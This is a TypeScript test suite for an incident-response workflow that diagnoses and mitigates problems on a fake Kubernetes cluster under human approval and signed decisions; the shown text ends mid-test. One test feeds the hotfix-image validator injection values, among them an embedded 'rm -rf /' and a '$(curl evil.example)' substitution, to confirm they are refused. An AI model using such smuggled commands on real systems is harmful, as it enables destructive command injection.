// The incident lifecycle on the Java time-skipping server, against a scripted
// fake cluster: every diagnosis path end to end, approvals (granted, rejected,
// timed out, refused), escalation and status timing in workflow time, a
// regression during the monitor, alerts that re-fire and resolve, manual
// resolution, and the post-incident follow-up to the 1-month tasks.
import { describe, expect, it } from 'vitest';
import { WorkflowUpdateFailedError, type WorkflowHandle } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import { eventually } from '../helpers/temporal.js';
import { timeSkippingSuite } from '../fixtures/time-skipping-suite.js';
import { FakeCluster, webhookDown, type Scenario, type ServicePolicy, type World } from '../fixtures/fake-cluster.js';
import {
  alertFor,
  decide,
  incidentInput,
  newService,
  openIncident,
  skipUntilStatus,
  statusOf,
  waitForStatus,
  type IncidentHandle,
} from '../fixtures/incident-driver.js';
import {
  TASK_QUEUE,
  acknowledgeSignal,
  addNoteSignal,
  alertResolvedSignal,
  alertsSignal,
  escalateSignal,
  approveSignal,
  completeTaskSignal,
  decideUpdate,
  hotfixUpdate,
  incidentStartOptions,
  reproposeUpdate,
  resolveSignal,
  tasksQuery,
  type DecideRequest,
  type IncidentInput,
  type IncidentOutcome,
} from '../../workflows/messages.js';
import type { MitigationKind, Notification } from '../../workflows/domain.js';
import type { DiagnosisCategory } from '../../workflows/diagnose.js';
import type { postIncidentWorkflow } from '../../workflows/post-incident.js';
import { postIncidentWorkflowId, statusQuery, type IncidentRecord, type IncidentStatus } from '../../workflows/messages.js';
import type { incidentWorkflow } from '../../workflows/incident.js';
import { Incidents } from '../../client/incidents.js';
import { newSigningKey, signDecision, type SignedDecision } from '../../workflows/decision-signature.js';
import { loadClientConfig } from '../../client/config.js';

const minute = 60_000;
const hour = 60 * minute;
const day = 24 * hour;

const suite = timeSkippingSuite();
const { fleet, started } = suite;

/** A fake cluster in `scenario` for a fresh service, and an incident opened for it by an alert. */
/** An incident over a new fake cluster; `policy` is the approval policy of the worker that serves it (anyone, nothing automatic by default). */
async function incident(
  scenario: Scenario,
  overrides: Partial<IncidentInput> = {},
  policy: ServicePolicy = {},
): Promise<{ cluster: FakeCluster; handle: IncidentHandle; input: IncidentInput; startedAt: number }> {
  const service = newService(scenario);
  const now = await suite.env.currentTimeMs();
  const cluster = fleet.add(new FakeCluster(service, scenario, now).withPolicy(policy));
  const input = incidentInput(service, new Date(now).toISOString(), overrides);
  const handle = await openIncident(suite.env.client, input);
  started.push(handle);
  const startedAt = (await handle.describe()).startTime.getTime();
  return { cluster, handle, input, startedAt };
}

function postIncidentHandle(outcome: IncidentOutcome): WorkflowHandle<typeof postIncidentWorkflow> {
  const handle = suite.env.client.workflow.getHandle<typeof postIncidentWorkflow>(outcome.postIncidentWorkflowId);
  started.push(handle);
  return handle;
}

/** The validator's message of a refused update (the update fails; its cause says why). */
async function refusalOf(update: Promise<unknown>): Promise<string> {
  const error = await update.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof WorkflowUpdateFailedError)) throw new Error(`expected the update to be refused, got ${String(error)}`);
  return error.cause?.message ?? '';
}

/** Minutes after the incident started at which pages of `event` went out, with their levels. */
function pagesOf(cluster: FakeCluster, startedAt: number, event = 'trigger'): { level: number | undefined; minute: number }[] {
  return cluster.pages.filter((p) => p.notification.event === event).map((p) => ({ level: p.notification.level, minute: (p.at - startedAt) / minute }));
}

/** Alertmanager re-sending the group (repeat_interval) and new alerts of the service: one `alerts` signal per delivery. */
async function flood(handle: IncidentHandle, input: IncidentInput, deliveries: number, firing = [input.alert]): Promise<void> {
  for (let i = 0; i < deliveries; i++) await handle.signal(alertsSignal, { firing, received: 1000 });
}

describe('every diagnosis path, end to end', () => {
  const paths: {
    scenario: Scenario;
    diagnosis: DiagnosisCategory;
    decisions: ('approve' | 'reject')[];
    applied: MitigationKind[];
    autoApprove?: MitigationKind[];
    humanFixesFirst?: (w: World) => void;
    /** Who approved each mutation, when not the approver of every one. */
    approvedBy?: string[];
  }[] = [
    { scenario: 'bad-rollout', diagnosis: 'bad-rollout', decisions: ['approve'], applied: ['rollout-undo'] },
    { scenario: 'oom', diagnosis: 'oom-killed', decisions: ['approve'], applied: ['set-resources'] },
    { scenario: 'cpu-starved', diagnosis: 'resource-starved', decisions: ['approve'], applied: ['set-resources'] },
    { scenario: 'config-error', diagnosis: 'config-drift', decisions: ['approve'], applied: ['restore-config-map'] },
    { scenario: 'selector-mismatch', diagnosis: 'selector-mismatch', decisions: ['approve'], applied: ['set-service-selector'] },
    { scenario: 'scaled-to-zero', diagnosis: 'scaled-to-zero', decisions: [], applied: ['scale'], autoApprove: ['scale'] },
    {
      scenario: 'missing-secret',
      diagnosis: 'missing-key',
      decisions: ['approve'],
      applied: ['rollout-restart'],
      humanFixesFirst: (w) => void (w.secretKeys = ['ANTHROPIC_API_KEY']),
    },
    // Emergency option 3's LOG_LEVEL=DEBUG is put back when the incident ends: a fourth mutation, approved with the third.
    {
      scenario: 'wedged',
      diagnosis: 'unknown',
      decisions: ['approve', 'approve', 'approve'],
      applied: ['rollout-undo', 'scale', 'patch-config-map', 'patch-config-map'],
      approvedBy: ['alice', 'alice', 'alice', 'policy:restore-of-#3'],
    },
  ];

  it.each(paths)(
    'given $scenario, when every proposed action is approved, then $applied restores it and it resolves as mitigated',
    async ({ scenario, diagnosis, decisions, applied, autoApprove, humanFixesFirst, approvedBy }) => {
      const { cluster, handle, startedAt } = await incident(scenario, {}, autoApprove ? { autoApprove } : {});
      for (const [i, decision] of decisions.entries()) {
        if (i === 0 && humanFixesFirst) {
          await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the restart to await approval');
          cluster.change(humanFixesFirst);
        }
        await decide(handle, i + 1, decision);
      }
      const outcome = await handle.result();
      const status = await statusOf(handle);

      expect(outcome).toMatchObject({ resolution: 'mitigated', actionsApplied: applied.length });
      expect(status.diagnosis?.category).toBe(scenario === 'wedged' ? 'unknown' : diagnosis);
      expect(cluster.mutations.map((m) => m.action.kind)).toEqual(applied);
      expect(cluster.failure()).toBeUndefined();
      const runId = (await handle.describe()).runId;
      expect(cluster.mutations.map((m) => m.key)).toEqual(applied.map((_, i) => `${handle.workflowId}/${runId}/action-${i + 1}`));
      expect(cluster.mutations.map((m) => m.approvedBy)).toEqual(approvedBy ?? applied.map(() => (autoApprove ? 'policy:auto' : 'alice')));
      // Restored at once: L1 only (plus the hand-over when a human must fix something first), the monitor, the resolve.
      const triggers = pagesOf(cluster, startedAt);
      expect(triggers.map((p) => p.level)).toEqual(humanFixesFirst ? [1, 1] : [1]);
      expect(triggers.every((p) => p.minute < 1)).toBe(true);
      if (humanFixesFirst) expect(cluster.pages[1]?.notification.summary).toMatch(/human fix required before action #1: restore key ANTHROPIC_API_KEY/);
      expect(cluster.callsOf('sampleHealth').length).toBeGreaterThanOrEqual(30);
      expect(pagesOf(cluster, startedAt, 'resolve')).toHaveLength(1);
    },
  );

  it.each([
    { scenario: 'unschedulable', evidence: /node node-a: cpu 1900m\/2000m/ },
    { scenario: 'dependency-down', evidence: /anthropic-api .*connect ETIMEDOUT/ },
  ] as const)('given $scenario, it escalates with the evidence and changes nothing', async ({ scenario, evidence }) => {
    const { cluster, handle } = await incident(scenario);
    const status = await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    // The L1 page goes out once the diagnosis decided it (a storm would fold it): it carries the hand-over.
    const handOver = await eventually(
      async () => cluster.pages.find((p) => p.notification.summary.includes('human action required')),
      'the page with the hand-over',
    );
    expect(handOver.notification.body).toMatch(evidence);
    expect(status.actions).toEqual([]);
    expect(cluster.callsOf('previewMutation')).toEqual([]);
    expect(cluster.callsOf('applyMutation')).toEqual([]);
  });
});

describe("the runbook's resource values", () => {
  it("given an OOM kill, it sets limits.memory to the runbook's 4Gi (not double) and shows the dry-run for approval", async () => {
    const { cluster, handle } = await incident('oom');
    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the memory raise to await approval');
    expect(pending.pendingApproval).toMatchObject({
      kind: 'set-resources',
      command: expect.stringMatching(/set resources deployment\/\S+ -c agent-manager --limits=memory=4Gi$/) as unknown,
      preview: { wouldChange: true, changes: ['memory limit 256Mi -> 4Gi'] },
    });
    await decide(handle, 1, 'approve');
    await handle.result();
    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-resources', container: 'agent-manager', limits: { memory: '4Gi' } }]);
  });

  it('given an OOM kill under a 1Gi memory ceiling, it clamps the runbook value to the ceiling and says so', async () => {
    const { cluster, handle } = await incident('oom', { guardrails: { maxReplicas: 10, memoryCeiling: '1Gi' } });
    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the memory raise to await approval');
    expect(pending.pendingApproval?.why).toContain("the runbook's 4Gi is clamped to the memory ceiling 1Gi (MEMORY_CEILING)");
    await decide(handle, 1, 'approve');
    await handle.result();
    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-resources', container: 'agent-manager', limits: { memory: '1Gi' } }]);
  });

  it("given pods starved of CPU (not OOM-killed), it proposes the runbook's requests and limits, shows their dry-run, and recovers on approval", async () => {
    const { cluster, handle } = await incident('cpu-starved');
    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the resource fix to await approval');
    expect(pending.diagnosis).toMatchObject({ category: 'resource-starved', symptom: 'unhealthy' });
    expect(pending.diagnosis?.evidence.join('\n')).toMatch(/cpu 100m of limit 100m \(kubectl top\)/);
    expect(pending.pendingApproval).toMatchObject({
      kind: 'set-resources',
      command: expect.stringMatching(/-c agent-manager --limits=cpu=2000m,memory=4Gi --requests=cpu=500m,memory=1Gi$/) as unknown,
      preview: {
        wouldChange: true,
        changes: ['memory limit 256Mi -> 4Gi', 'cpu limit 100m -> 2000m', 'cpu request 50m -> 500m', 'memory request 64Mi -> 1Gi'],
      },
    });
    expect(cluster.notifications.some((n) => n.notification.event === 'approval-request' && n.notification.body.includes('cpu limit 100m -> 2000m'))).toBe(
      true,
    );
    await decide(handle, 1, 'approve');
    const outcome = await handle.result();
    expect(outcome.resolution).toBe('mitigated');
    expect(cluster.failure()).toBeUndefined();
    const status = await statusOf(handle);
    // Verified as the runbook says: rollout status first, then the pods and endpoints.
    expect(status.timeline.map((t) => t.text)).toContainEqual(expect.stringMatching(/successfully rolled out/));
  });
});

describe('a hotfix image from a person (runbook: kubectl set image)', () => {
  const incidents = (): Incidents => new Incidents(suite.env.client, loadClientConfig({ DEFAULT_CLUSTER: 'test' }));

  it('given a rejected rollback, when an approver supplies a hotfix image, it is dry-run, approved, applied, rolled out, verified and on the timeline', async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { approvers: ['alice', 'bob'], autoApprove: ['set-image'] });
    await decide(handle, 1, 'reject');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    // Nothing proposes a set image by itself, even with the policy auto-approving the kind.
    expect(cluster.callsOf('previewMutation').map((c) => (c.args[0] as { action: { kind: string } }).action.kind)).toEqual(['rollout-undo']);

    const image = `${handle.workflowId.split('/')[3] ?? ''}:hotfix-v1.0.1`;
    const outcome = await incidents().proposeHotfix(handle.workflowId, 'bob', image, { comment: 'fixes the registry import' });
    expect(outcome).toMatchObject({ image, by: 'bob', next: 'now: dry-run, then an approval request' });

    const pending = await waitForStatus(handle, (s) => s.pendingApproval?.kind === 'set-image', 'the hotfix to await approval');
    // Always a person's approval: the policy's auto-approval of set-image does not apply to a person's image.
    expect(pending.pendingApproval).toMatchObject({
      action: 2,
      command: expect.stringMatching(new RegExp(`set image deployment/\\S+ agent-manager=${image.replace('.', '\\.')}$`)) as unknown,
      why: expect.stringContaining('supplied by bob (fixes the registry import)') as unknown,
      preview: { wouldChange: true, changes: [expect.stringMatching(new RegExp(`-> ${image}$`)) as unknown] },
    });
    expect(cluster.callsOf('applyMutation')).toEqual([]);
    // Bob asked for it: he may not approve it too (he may still withdraw it by rejecting).
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'bob', action: 2, decision: 'approve' }] }))).toBe(
      `bob asked for action #2 (${pending.pendingApproval?.command ?? ''}) and may not approve it: another approver must`,
    );
    expect(pending.pendingApproval?.requestedBy).toBe('bob');
    await decide(handle, 2, 'approve');
    const result = await handle.result();
    const status = await statusOf(handle);

    expect(result.resolution).toBe('mitigated');
    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-image', container: 'agent-manager', image }]);
    expect(cluster.failure()).toBeUndefined();
    const timeline = status.timeline.map((t) => t.text);
    expect(timeline).toContainEqual(expect.stringContaining(`hotfix image ${image} supplied by bob`));
    expect(timeline).toContainEqual(expect.stringMatching(/^#2 applied: image .* -> /));
    // Runbook: "Monitor deployment: kubectl rollout status" after the set image.
    expect(cluster.callsOf('waitForRollout')).toHaveLength(1);
    expect(timeline).toContainEqual(expect.stringMatching(/successfully rolled out/));
  });

  it.each([
    ['shell metacharacters', 'agent-native-framework:v1;rm${IFS}-rf${IFS}/', /is not an image reference/],
    ['command substitution', '$(curl${IFS}evil.example)', /is not an image reference/],
    ['a quote that would end the command line', "app:v1'&&kubectl", /is not an image reference/],
    ['a kubectl flag smuggled in', 'app:v1 --namespace=kube-system', /whitespace or control characters/],
    ['upper case repository', 'Agent-Native:v1', /is not an image reference/],
    ['no tag or digest', 'agent-native-framework', /names no tag or digest/],
    ['a tag over 128 characters', `app:${'a'.repeat(129)}`, /is not an image reference/],
  ])('refuses a hotfix image with %s, with a clear error, and proposes nothing', async (_what, image, message) => {
    const { cluster, handle } = await incident('bad-rollout');
    await decide(handle, 1, 'reject');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'alice', image }] }))).toMatch(message);
    await expect(incidents().proposeHotfix(handle.workflowId, 'alice', image)).rejects.toThrow(message);
    await suite.env.sleep('1m');
    expect((await statusOf(handle)).actions).toHaveLength(1);
    expect(cluster.callsOf('previewMutation')).toHaveLength(1);
  });

  it('drops a hotfix with a note when the investigation before it fails, instead of looking again and again', async () => {
    const { cluster, handle } = await incident('bad-rollout');
    await decide(handle, 1, 'reject');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    const looks = cluster.callsOf('inspectWorkload').length;
    cluster.fail('inspectWorkload', () => ApplicationFailure.nonRetryable('403 forbidden: deployments', 'Forbidden'), { calls: 1 });
    await incidents().proposeHotfix(handle.workflowId, 'alice', 'agent-native-framework:hotfix-v1.0.1');
    const status = await waitForStatus(
      handle,
      (s) => s.timeline.some((t) => t.text.includes('not proposed: the investigation failed')),
      'the hotfix to be dropped',
    );
    await suite.env.sleep('5m');
    expect(cluster.callsOf('inspectWorkload')).toHaveLength(looks + 1);
    expect(status.actions).toHaveLength(1);
    expect(cluster.callsOf('previewMutation')).toHaveLength(1);
  });

  it('refuses a hotfix from someone not on the approver list', async () => {
    const { handle } = await incident('bad-rollout', {}, { approvers: ['alice'] });
    await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'mallory', image: 'agent-native-framework:hotfix-v1.0.1' }] }))).toMatch(
      /mallory is not an allowed approver/,
    );
  });
});

describe('signed decisions (the worker names the approval channels whose signatures count)', () => {
  const channel = { keyId: 'receiver-1', ...newSigningKey() };
  const decisionKeys = { [channel.keyId]: channel.publicKey };

  /** A decide request as the approval channel signs it for `by`; `sign` overrides what is signed, to forge. */
  async function signedRequest(
    handle: IncidentHandle,
    decision: 'approve' | 'reject',
    by: string,
    sign: Partial<SignedDecision> & { expiresInMs?: number; key?: typeof channel } = {},
  ): Promise<DecideRequest> {
    const { pendingApproval } = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'an action to await approval');
    const now = await suite.env.currentTimeMs();
    const signature = signDecision(
      sign.key ?? channel,
      { actionKey: pendingApproval?.actionKey ?? '', decision, by, ...sign },
      new Date(now + (sign.expiresInMs ?? 5 * minute)),
    );
    return { decision, by, action: pendingApproval?.action, signature };
  }

  it('refuses, and records on the timeline, every decision its channel did not sign as sent; applies the one it did', async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { approvers: ['alice', 'bob'], decisionKeys });
    await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
    const refused = async (request: DecideRequest) => refusalOf(handle.executeUpdate(decideUpdate, { args: [request] }));

    // Straight to Temporal, as anyone who can reach the frontend could.
    expect(await refused({ decision: 'approve', by: 'alice', action: 1 })).toBe(
      'approve of #1 in the name of alice refused: it is not signed. This worker counts only decisions signed by an approval channel: ' +
        "decide through the receiver's decisions API (`incident approve` with INCIDENT_API_URL set), not straight to Temporal",
    );
    // Alice's signature, sent as bob; her rejection sent as an approval; her signature for another incident's action.
    expect(await refused({ ...(await signedRequest(handle, 'approve', 'alice')), by: 'bob' })).toMatch(/its signature does not match/);
    expect(await refused({ ...(await signedRequest(handle, 'reject', 'alice')), decision: 'approve' })).toMatch(/its signature does not match/);
    expect(await refused(await signedRequest(handle, 'approve', 'alice', { actionKey: 'incident/test/other/run/action-1' }))).toMatch(
      /its signature does not match/,
    );
    // A comment added after signing, an expired signature, one valid for too long, a key the worker does not know.
    expect(await refused({ ...(await signedRequest(handle, 'approve', 'alice')), comment: 'and scale it to 50' })).toMatch(/its signature does not match/);
    expect(await refused(await signedRequest(handle, 'approve', 'alice', { expiresInMs: -1 }))).toMatch(/its signature expired at/);
    expect(await refused(await signedRequest(handle, 'approve', 'alice', { expiresInMs: 60 * minute }))).toMatch(/longer than the 10 minutes allowed/);
    const stranger = { keyId: 'receiver-1', ...newSigningKey() };
    expect(await refused(await signedRequest(handle, 'approve', 'alice', { key: stranger }))).toMatch(/its signature does not match/);
    expect(await refused(await signedRequest(handle, 'approve', 'alice', { key: { ...stranger, keyId: 'laptop' } }))).toMatch(
      /signed with key "laptop", which this worker does not know \(known: receiver-1\)/,
    );
    // A signal has nobody to answer: it is recorded and ignored.
    await handle.signal(approveSignal, { by: 'alice', action: 1 });
    const status = await waitForStatus(
      handle,
      (s) =>
        s.timeline.some((e) => e.kind === 'ignored' && e.text.startsWith('approve from alice: approve of #1 in the name of alice refused: it is not signed')),
      'the unsigned signal on the timeline',
    );
    expect(status.timeline.filter((e) => e.kind === 'ignored' && e.text.includes('in the name of'))).toHaveLength(10);
    expect(status.actions[0]).toMatchObject({ outcome: 'awaiting-approval' });
    expect(cluster.mutations).toEqual([]);

    const outcome = await handle.executeUpdate(decideUpdate, { args: [await signedRequest(handle, 'approve', 'alice')] });
    expect(outcome).toMatchObject({ approved: true, by: 'alice' });
    await handle.result();
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['rollout-undo', 'alice']]);
  });
  it("asks each approval under the worker's policy of that moment: a rotated key counts from the next request on, the old one no longer", async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { approvers: ['alice', 'bob'], decisionKeys });
    await handle.executeUpdate(decideUpdate, { args: [await signedRequest(handle, 'reject', 'alice')] });
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the rejected rollback to be handed over');
    // The worker is redeployed with a new channel key only; the incident is still open.
    const rotated = { keyId: 'receiver-2', ...newSigningKey() };
    cluster.withPolicy({ approvers: ['alice', 'bob'], decisionKeys: { [rotated.keyId]: rotated.publicKey } });
    await handle.executeUpdate(hotfixUpdate, { args: [{ by: 'bob', image: 'agent-native-framework:hotfix-v1.0.1' }] });
    const waiting = await waitForStatus(handle, (s) => s.pendingApproval?.action === 2, 'the hotfix to await approval');
    expect(waiting.timeline.map((e) => e.text)).toContain(
      'approval policy of the worker changed: approvers: alice, bob; decisions count only signed by receiver-2; auto-approved in default: nothing',
    );
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [await signedRequest(handle, 'approve', 'alice')] }))).toMatch(
      /signed with key "receiver-1", which this worker does not know \(known: receiver-2\)/,
    );
    await handle.executeUpdate(decideUpdate, { args: [await signedRequest(handle, 'approve', 'alice', { key: rotated })] });
    await waitForStatus(handle, (s) => s.actions[1]?.appliedAt !== undefined, 'the hotfix to be applied');
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['set-image', 'alice']]);
  });
});

describe('approvals', () => {
  it("refuses a snapshot in a start request (it could carry approved actions): only the incident's own continue-as-new hands one over", async () => {
    const service = newService('forged');
    const now = await suite.env.currentTimeMs();
    const cluster = fleet.add(new FakeCluster(service, 'scaled-to-zero', now));
    const input = incidentInput(service, new Date(now).toISOString());
    const forged = { version: 1, data: { actions: [{ n: 1, decision: { approved: true, by: 'alice' } }] }, resumeAt: 'investigate' };
    const handle = await suite.env.client.workflow.start('incidentWorkflow', { ...incidentStartOptions(input), args: [input, forged] });
    const failure = (await handle.result().catch((err: unknown) => err)) as { cause?: { message?: string; type?: string } };
    expect(failure.cause).toMatchObject({
      type: 'BadRequest',
      message: "a snapshot is only accepted from the incident's own continue-as-new, not in a start request",
    });
    expect(cluster.calls).toEqual([]);
  });

  it("given a start request that carries its own permissive policy, the worker's policy applies: nothing is changed without an approval, and the timeline says why", async () => {
    // What `INCIDENT_AUTO_APPROVE='default=*' incident trigger … --as mallory` put in the input, or anyone who can start a workflow.
    const asked = { approvers: ['mallory'], autoApprove: { default: ['scale', 'rollout-undo', 'set-resources'] as MitigationKind[] } };
    const { cluster, handle } = await incident('scaled-to-zero', { approval: asked }, { approvers: ['alice'] });
    const waiting = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the scale to await approval');
    expect(waiting.pendingApproval).toMatchObject({ kind: 'scale', approvers: ['alice'] });
    // At the run's start, and again for the approval request.
    expect(cluster.callsOf('approvalPolicy')).toHaveLength(2);
    expect(cluster.mutations).toEqual([]);
    expect(waiting.timeline.map((e) => e.text)).toEqual(
      expect.arrayContaining([
        "the approval policy in the start request (approvers: mallory; auto-approved in default: scale, rollout-undo, set-resources) is not used: this worker's applies",
        'approval policy of the worker: approvers: alice; auto-approved in default: nothing',
      ]),
    );
    // Nor may the input's approver decide.
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'mallory', action: 1, decision: 'approve' }] }))).toMatch(
      /mallory is not an allowed approver .* \(allowed: alice\)/,
    );
    await decide(handle, 1, 'approve', 'alice');
    await waitForStatus(handle, (s) => s.phase === 'monitoring' || s.phase === 'resolved', 'the approved scale to be applied');
    expect(cluster.mutations.map((m) => m.approvedBy)).toEqual(['alice']);
  });

  it('under the two-person rule, a change is applied only after two distinct approvers, and the first approval outlives a continue-as-new', async () => {
    const { cluster, handle, input } = await incident(
      'bad-rollout',
      { limits: { continueAsNewAfterEvents: 200 } },
      { approvers: ['alice', 'bob', 'carol'], twoPerson: true },
    );
    const waiting = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
    expect(waiting.pendingApproval).toMatchObject({ action: 1, approvalsRequired: 2, approvedBy: [] });
    expect(waiting.timeline.map((e) => e.text)).toContain(
      'approval policy of the worker: approvers: alice, bob, carol; 2 distinct approvers per change; auto-approved in default: nothing',
    );

    const first = await decide(handle, 1, 'approve', 'alice');
    expect(first).toMatchObject({ approved: false, by: 'alice', needs: '1 more approver(s), not alice, must approve before it is applied' });
    // The same person twice is still one person.
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'alice', action: 1, decision: 'approve' }] }))).toMatch(
      /alice approved action #1 already: it needs 2 distinct approvers/,
    );
    // A new run (a long history) carries the first approval: bob's is the second, not the first again.
    await flood(handle, input, 150);
    const carried = await waitForStatus(handle, (s) => s.run > 1 && s.pendingApproval !== undefined, 'a second run with the approval open');
    expect(carried.pendingApproval).toMatchObject({ action: 1, approvedBy: ['alice'] });
    await suite.env.sleep('1m');
    expect(cluster.mutations).toEqual([]);

    const second = await decide(handle, 1, 'approve', 'bob');
    expect(second).toMatchObject({ approved: true, by: 'alice and bob' });
    expect(await handle.result()).toMatchObject({ resolution: 'mitigated', actionsApplied: 1 });
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['rollout-undo', 'alice and bob']]);
  });

  it('given an approved dry-run made stale by a concurrent kubectl change, nothing is applied: the new dry-run is shown and asked about again, saying what changed', async () => {
    const { cluster, handle } = await incident('scaled-to-zero');
    const asked = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the scale to await approval');
    const target = asked.pendingApproval?.command.match(/--replicas=(\d+)/)?.[1] ?? '';
    expect(asked.pendingApproval?.preview.changes).toEqual([`replicas 0 -> ${target}`]);
    // Someone runs `kubectl scale --replicas=1` while the request waits; alice approves what she saw.
    cluster.change((w) => void (w.replicas = 1));
    await decide(handle, 1, 'approve', 'alice');

    const again = await waitForStatus(
      handle,
      (s) => s.pendingApproval?.action === 1 && s.pendingApproval.preview.changes[0] === `replicas 1 -> ${target}`,
      'the new dry-run to be asked about',
    );
    expect(again.timeline.map((e) => e.text)).toContain(
      `#1 not applied, its approval is void: the object changed since the dry-run that was approved: it showed replicas 0 -> ${target}; a dry-run now shows replicas 1 -> ${target}`,
    );
    expect(again.actions[0]).toMatchObject({ outcome: 'awaiting-approval' });
    expect(again.actions[0]?.decision).toBeUndefined();
    expect(cluster.mutations).toEqual([]);
    expect(cluster.notifications.filter((n) => n.notification.event === 'approval-request')).toHaveLength(2);

    await decide(handle, 1, 'approve', 'bob');
    await handle.result();
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['scale', 'bob']]);
  });

  it('an action whose approval expired can be proposed again by a person at L2: looked at again, dry-run again, asked again', async () => {
    const { cluster, handle } = await incident('bad-rollout', { durations: { approvalTimeout: '5m' } }, { approvers: ['alice', 'bob'] });
    const first = await waitForStatus(handle, (s) => s.pendingApproval?.action === 1, 'the rollback to await approval');
    const repropose = (by: string, action: number) => handle.executeUpdate(reproposeUpdate, { args: [{ by, action, comment: 'now we are here' }] });
    expect(await refusalOf(repropose('bob', 1))).toBe('action #1 is awaiting-approval: only an action whose approval expired can be proposed again');
    await suite.env.sleep('6m');
    await waitForStatus(handle, (s) => s.actions[0]?.outcome === 'expired' && s.phase === 'escalated', 'the approval to expire and L2 to be paged');
    expect(await refusalOf(repropose('mallory', 1))).toMatch(/mallory is not an allowed approver/);

    expect(await repropose('bob', 1)).toMatchObject({ action: 1, by: 'bob', command: first.pendingApproval?.command });
    const again = await waitForStatus(handle, (s) => s.pendingApproval?.action === 2, 'the rollback to be asked again');
    expect(again.pendingApproval).toMatchObject({
      kind: 'rollout-undo',
      command: first.pendingApproval?.command,
      why: expect.stringContaining('proposed again by bob after the approval of #1 expired (now we are here)') as unknown,
      preview: { wouldChange: true },
    });
    expect(cluster.callsOf('previewMutation')).toHaveLength(2);
    // Bob re-opened the question; he may answer it (he did not supply the change).
    await decide(handle, 2, 'approve', 'bob');
    await handle.result();
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['rollout-undo', 'bob']]);
  });

  it('refuses to propose again an action that was rejected, or one that does not exist', async () => {
    const { handle } = await incident('bad-rollout', {}, { approvers: ['alice'] });
    await decide(handle, 1, 'reject', 'alice');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the rejected rollback to be handed over');
    expect(await refusalOf(handle.executeUpdate(reproposeUpdate, { args: [{ by: 'alice', action: 1 }] }))).toBe(
      'action #1 is rejected: only an action whose approval expired can be proposed again',
    );
    expect(await refusalOf(handle.executeUpdate(reproposeUpdate, { args: [{ by: 'alice', action: 9 }] }))).toBe(
      'unknown action #9: this incident has 1 action(s)',
    );
  });

  it('under the two-person rule, one rejection stops the change even after an approval', async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { approvers: ['alice', 'bob'], twoPerson: true });
    await decide(handle, 1, 'approve', 'alice');
    expect(await decide(handle, 1, 'reject', 'bob')).toMatchObject({ approved: false, by: 'bob' });
    const status = await waitForStatus(handle, (s) => s.phase === 'escalated', 'the rejected rollback to be handed over');
    expect(status.actions[0]).toMatchObject({ outcome: 'rejected', decision: { approved: false, by: 'bob' } });
    expect(cluster.mutations).toEqual([]);
  });

  it.each([
    { when: 'approved', decision: 'approve', outcome: 'recovered', phase: 'resolved', applied: 1 },
    { when: 'rejected', decision: 'reject', outcome: 'rejected', phase: 'escalated', applied: 0 },
    { when: 'not decided in time', decision: undefined, outcome: 'expired', phase: 'escalated', applied: 0 },
  ] as const)(
    'given a bad rollout, when the rollback is $when, then the action is $outcome and the incident $phase',
    async ({ decision, outcome, phase, applied }) => {
      const { cluster, handle, startedAt } = await incident('bad-rollout', { durations: { approvalTimeout: '5m' } });
      const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
      // The approval request shows the server-side dry-run of exactly this change.
      expect(pending.pendingApproval).toMatchObject({
        action: 1,
        kind: 'rollout-undo',
        preview: { wouldChange: true, changes: ['template: revision 4 -> revision 3'] },
      });
      // The request goes out by an activity of its own, after the status shows it pending.
      await eventually(
        async () =>
          cluster.notifications.some((n) => n.notification.event === 'approval-request' && n.notification.body.includes('revision 4 -> revision 3')) ||
          undefined,
        'the approval request showing the dry-run',
      );
      if (decision) await decide(handle, 1, decision);
      if (phase === 'resolved') await handle.result();
      if (decision === undefined) await suite.env.sleep('6m');
      const status = await waitForStatus(handle, (s) => s.phase === phase, `phase ${phase}`);

      expect(status.actions[0]?.outcome).toBe(outcome);
      expect(cluster.callsOf('applyMutation')).toHaveLength(applied);
      if (decision === undefined) {
        // No decision in 5 minutes: L2 is paged then, and nothing is applied.
        expect(pagesOf(cluster, startedAt)).toEqual([
          { level: 1, minute: expect.closeTo(0, 1) as unknown },
          { level: 2, minute: expect.closeTo(5, 1) as unknown },
        ]);
